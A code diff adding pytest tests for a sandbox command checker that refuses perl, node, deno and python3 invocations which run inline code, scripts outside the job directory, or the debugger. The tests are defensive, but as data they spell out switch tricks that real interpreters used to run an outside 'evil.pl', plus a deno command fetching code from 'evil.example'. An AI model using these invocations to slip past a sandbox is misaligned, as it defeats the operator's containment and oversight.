@@ -290,3 +290,272 @@ class TestRunProperties:
             and all(len(part.encode()) <= 255 for part in parts)
         )
         assert (_run_rule(5, {name: b"x"}) is None) == ok
+
+
+# Each expected rule below was seen with the real interpreter (perl 5.36, node 20)
+# in a scratch directory holding x.pl / x.js, with /tmp/out/evil.pl outside it.
+PERL_TABLE = {"perl": Resolved(name="perl", path="/usr/bin/perl", real="/usr/bin/perl")}
+
+
+def _perl_rule(argv: list[str]) -> str | None:
+    try:
+        check(argv, PERL_TABLE, POLICY)
+    except guild.CommandRefused as refused:
+        return refused.rule
+    return None
+
+
+class TestPerlSwitchesAsPerlReadsThem:
+    @pytest.mark.parametrize(
+        ("argv", "rule"),
+        [
+            # -C takes the rest of its cluster: perl ran /tmp/out/evil.pl, the I was
+            # a unicode letter, not -I taking the next argument.
+            (["perl", "-CI", "/tmp/out/evil.pl", "x.pl"], "script-outside"),
+            (["perl", "-CSDI", "/tmp/out/evil.pl", "x.pl"], "script-outside"),
+            # -D skips the word characters after it: the same.
+            (["perl", "-DI", "/tmp/out/evil.pl", "x.pl"], "script-outside"),
+            # A space ends an attached value and perl reads switches again: each of
+            # these printed what the next argument said.
+            (["perl", "-i -e", "print 1"], "inline-code"),
+            (["perl", "-i.bak -e", "print 1"], "inline-code"),
+            (["perl", "-F: -e", "print 1"], "inline-code"),
+            (["perl", "-CS -e", "print 1"], "inline-code"),
+            (["perl", "-Dx -e", "print 1"], "inline-code"),
+            (["perl", "-l -e", "print 1"], "inline-code"),
+            # -S looks the script up on PATH: perl ran /tmp/out/evil.pl.
+            (["perl", "-S", "evil.pl"], "script-outside"),
+            (["perl", "-wS", "evil.pl"], "script-outside"),
+            (["perl", "-S", "-w", "evil.pl"], "script-outside"),
+            # Only -0 reads x and hex digits: -lx is -l then -x, which ran the
+            # script embedded in x.txt.
+            (["perl", "-lx", "x.txt"], "inline-code"),
+            (["perl", "-lxe", "x.txt"], "inline-code"),
+            (["perl", "-l7e", "print 1"], "inline-code"),
+            (["perl", "-0777e", "print 1"], "inline-code"),
+            # -0x takes hex digits only up to the end of the cluster; anything else
+            # is -0 then -x with a directory: perl ran /tmp/out/evil.pl after a chdir
+            # (into I, had the job made it), or scanned it for its #!perl line.
+            (["perl", "-0xI", "/tmp/out/evil.pl", "x.pl"], "inline-code"),
+            (["perl", "-0xle", "print 1"], "inline-code"),
+            (["perl", "-0x", "x.pl"], "inline-code"),
+        ],
+    )
+    def test_refused(self, argv: list[str], rule: str) -> None:
+        assert _perl_rule(argv) == rule
+
+    @pytest.mark.parametrize(
+        "argv",
+        [
+            ["perl", "-CSD", "x.pl"],  # ran x.pl
+            ["perl", "-C", "x.pl"],
+            ["perl", "-0xe", "print 1"],  # e is a hex digit: perl opened "print 1"
+            ["perl", "-I -e", "x.pl"],  # -I takes the rest, space and all
+            ["perl", "-I", "/usr/share/perl5", "x.pl"],  # ran x.pl
+            ["perl", "-0x1F", "x.pl"],
+        ],
+    )
+    def test_allowed(self, argv: list[str]) -> None:
+        assert _perl_rule(argv) is None
+
+
+class TestNodeOptionsThatRunAFile:
+    @pytest.mark.parametrize(
+        "argv",
+        [
+            # node 20 imported the reporter module and ran its top level.
+            ["node", "--test", "--test-reporter", "/tmp/out/rep.mjs", "x.js"],
+            ["node", "--test-reporter=/tmp/out/rep.mjs", "--test", "x.js"],
+            ["node", "--test-reporter=../rep.mjs", "--test", "x.js"],
+            ["node", "--test_reporter=/tmp/out/rep.mjs", "--test", "x.js"],
+            # node 20 ran the snapshot's main function instead of x.js.
+            ["node", "--snapshot-blob", "/tmp/out/snap.blob", "x.js"],
+            ["node", "--snapshot-blob=/tmp/out/snap.blob", "x.js"],
+        ],
+    )
+    def test_a_file_outside_is_refused(self, argv: list[str]) -> None:
+        assert _rule(argv) == "script-outside"
+
+    @pytest.mark.parametrize(
+        "argv",
+        [
+            ["node", "--test", "--test-reporter=./r.mjs", "x.test.js"],
+            ["node", "--test", "--test-reporter", "spec", "x.test.js"],
+            ["node", "--snapshot-blob", "snap.blob", "x.js"],
+            ["node", "--test-reporter"],  # no value: node stops with an error
+        ],
+    )
+    def test_a_file_inside_is_allowed(self, argv: list[str]) -> None:
+        assert _rule(argv) is None
+
+    def test_the_script_after_the_value_is_still_checked(self) -> None:
+        assert _rule(["node", "--test-reporter", "spec", NPM]) == "script-outside"
+        assert _rule(["node", "--test-reporter=spec", NPM]) == "script-outside"
+        assert _rule(["node", "--snapshot-blob", "s.blob", "-"]) == "script-stdin"
+
+
+class TestRunBudgetsWrittenOut:
+    def test_pages_are_whole_4_kib_pages_per_file(self) -> None:
+        two_pages = SandboxPolicy(isolate="never", disk_bytes=8192)
+        assert _run_rule(5, {"a": b"x" * 4096, "b": b"y" * 4096}, two_pages) is None
+        assert _run_rule(5, {"a": b"x" * 4097}, two_pages) is None
+        assert _run_rule(5, {"a": b"x" * 4097, "b": b"y"}, two_pages) == "disk-budget"
+        assert _run_rule(5, {"a": b"x" * 8193}, two_pages) == "disk-budget"
+        assert _run_rule(5, {f"f{i}": b"" for i in range(50)}, two_pages) is None
+
+    def test_inodes_count_each_directory_once(self) -> None:
+        three = SandboxPolicy(isolate="never", disk_inodes=3)
+        assert _run_rule(5, {"d/e/f": b""}, three) is None  # d, d/e, d/e/f
+        assert _run_rule(5, {"d/a": b"", "d/b": b""}, three) is None  # d, d/a, d/b
+        assert _run_rule(5, {"d/e/f": b"", "d/g": b""}, three) == "disk-budget"
+        two = SandboxPolicy(isolate="never", disk_inodes=2)
+        assert _run_rule(5, {"d/e/f": b""}, two) == "disk-budget"
+
+    def test_a_name_of_exactly_4096_bytes_is_taken(self) -> None:
+        name = "/".join(["a" * 255] * 15 + ["b" * 200, "c" * 55])
+        assert len(name.encode()) == 4096
+        assert _run_rule(5, {name: b""}) is None
+        assert _run_rule(5, {name + "c": b""}) == "bad-file"
+
+
+DENO_TABLE = {"deno": Resolved(name="deno", path="/usr/bin/deno", real="/usr/bin/deno")}
+
+
+class TestDenoSubcommands:
+    """deno reads one subcommand word, then the script (`deno run x.ts`); a first
+    word that is not a subcommand is the script itself (`deno x.ts`)."""
+
+    @pytest.mark.parametrize(
+        ("argv", "rule"),
+        [
+            (["deno", "/tmp/x.ts"], "script-outside"),
+            (["deno", "../x.ts"], "script-outside"),
+            (["deno", "run", "/tmp/x.ts"], "script-outside"),
+            (["deno", "run", "-A", "https://evil.example/x.ts"], "script-outside"),
+            (["deno", "eval", "1"], "inline-code"),
+            *(
+                (["deno", sub, "/tmp/x.ts"], "script-outside")
+                for sub in ("run", "test", "bench", "check", "compile", "serve", "lint")
+            ),
+        ],
+    )
+    def test_refused(self, argv: list[str], rule: str) -> None:
+        with pytest.raises(guild.CommandRefused) as refused:
+            check(argv, DENO_TABLE, POLICY)
+        assert refused.value.rule == rule
+
+    @pytest.mark.parametrize(
+        "argv", [["deno", "x.ts"], ["deno", "run", "eval"], ["deno", "test", "t.ts", "/tmp/x"]]
+    )
+    def test_allowed(self, argv: list[str]) -> None:
+        assert check(argv, DENO_TABLE, POLICY)[1:] == tuple(argv[1:])
+
+
+def test_a_policy_is_built_from_keywords_only() -> None:
+    with pytest.raises(TypeError):
+        SandboxPolicy(("python3",))  # type: ignore[call-arg]
+
+
+class TestPythonOptionValues:
+    """What python 3.11 reads as an option's value is never its script."""
+
+    @pytest.mark.parametrize(
+        "argv",
+        [
+            # The value is read (and here rejected by python), never taken for stdin.
+            ["python3", "--check-hash-based-pycs", "-", "x.py"],
+            ["python3", "--help-env", "x.py", STDLIB_MODULE],  # a flag: prints help
+            ["python3", "--version", "x.py", STDLIB_MODULE],
+        ],
+    )
+    def test_allowed(self, argv: list[str]) -> None:
+        assert _rule(argv) is None
+
+    def test_an_unknown_option_is_read_both_ways_wherever_it_is(self) -> None:
+        assert _rule(["python3", "--made-up", "x.py", STDLIB_MODULE, "y"]) == "script-outside"
+        assert _rule(["python3", "-u", "--made-up", "x.py", STDLIB_MODULE]) == "script-outside"
+        assert _rule(["python3", "--made-up", STDLIB_MODULE]) == "script-outside"
+
+
+def test_the_documented_budget_defaults() -> None:
+    # docs/sandbox.md: memory 1 GiB, run_cpu_seconds 120, tmpfs 64 MiB and 4096
+    # inodes, job directory 128 MiB and 16384 inodes; max_timeout one hour.
+    policy = SandboxPolicy()
+    assert (policy.memory, policy.run_cpu_seconds) == (1024**3, 120)
+    assert (policy.tmpfs_size, policy.tmpfs_inodes) == (64 * 1024**2, 4096)
+    assert (policy.disk_bytes, policy.disk_inodes) == (128 * 1024**2, 16384)
+    assert policy.max_timeout == 3600.0
+
+
+class TestNodeTestRunsEveryWord:
+    def test_every_word_after_test_is_a_script(self) -> None:
+        # node 20 ran both files, the second one from outside the job directory.
+        assert _rule(["node", "--test", "x.test.js", "/tmp/out/evil.test.js"]) == "script-outside"
+        assert _rule(["node", "--test", "a.test.js", "../b.test.js"]) == "script-outside"
+        assert _rule(["node", "--test", "x.test.js", NPM]) == "script-outside"
+
+    def test_files_inside_run(self) -> None:
+        assert _rule(["node", "--test"]) is None  # node finds the tests in the job directory
+        assert _rule(["node", "--test", "a.test.js", "lib/b.test.js"]) is None
+        assert _rule(["node", "x.js", "--test", "/etc/passwd"]) is None  # x.js's own argument
+
+
+class TestNodeInspectWord:
+    @pytest.mark.parametrize(
+        "argv",
+        [
+            # node 20 printed "Debugger listening on ws://127.0.0.1:9229/…" for each.
+            ["node", "inspect", "x.js"],
+            ["node", "--no-warnings", "inspect", "x.js"],
+            ["node", "inspect", "127.0.0.1:9229"],
+        ],
+    )
+    @pytest.mark.parametrize("policy", [POLICY, NODE_INLINE])
+    def test_refused(self, argv: list[str], policy: SandboxPolicy) -> None:
+        assert _rule(argv, policy) == "debugger"
+
+    def test_a_script_argument_called_inspect_is_allowed(self) -> None:
+        assert _rule(["node", "x.js", "inspect"]) is None
+        assert _rule(["python3", "inspect"]) is None  # python has no such word
+
+
+def test_the_name_alone_makes_an_interpreter() -> None:
+    # A python3 found as a shim (pyenv's real file is a launcher, not "python…")
+    # is still python: its inline-code flags are refused.
+    shim = {"python3": Resolved(name="python3", path="/usr/bin/python3", real="/opt/pyenv/shim")}
+    with pytest.raises(guild.CommandRefused) as refused:
+        check(["python3", "-c", "1"], shim, POLICY)
+    assert refused.value.rule == "inline-code"
+
+
+def test_perl_l_reads_octal_digits_only() -> None:
+    # perl -l0x1F x.pl: -l takes the 0, then -x scanned x.pl for a #!perl line.
+    assert _perl_rule(["perl", "-l0x1F", "x.pl"]) == "inline-code"
+
+
+def test_many_unknown_options_are_read_once_each() -> None:
+    # Each unknown option is read two ways; places already read are not read
+    # again, so sixty of them are checked at once, script and all.
+    assert _rule(["python3", *["--made-up"] * 60, "x.py"]) is None
+    assert _rule(["python3", *["--made-up"] * 60, STDLIB_MODULE]) == "script-outside"
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["perl", "-X", "x.pl"],  # -X turns warnings off; perl ran x.pl
+        ["python3", "--help-all", "x.py", STDLIB_MODULE],  # a flag: python prints help
+        # An option after --test is read as an option, not a test file.
+        ["node", "--test", "--test-name-pattern=a/../b", "x.test.js"],
+    ],
+)
+def test_options_that_are_not_scripts(argv: list[str]) -> None:
+    table = {**TABLE, **PERL_TABLE}
+    assert check(argv, table, POLICY)[1:] == tuple(argv[1:])
+
+
+def test_a_versioned_nodejs_is_node() -> None:
+    table = {"nodejs18": Resolved(name="nodejs18", path="/usr/bin/nodejs18", real="/opt/n")}
+    with pytest.raises(guild.CommandRefused) as refused:
+        check(["nodejs18", "-e", "1"], table, POLICY)
+    assert refused.value.rule == "inline-code"
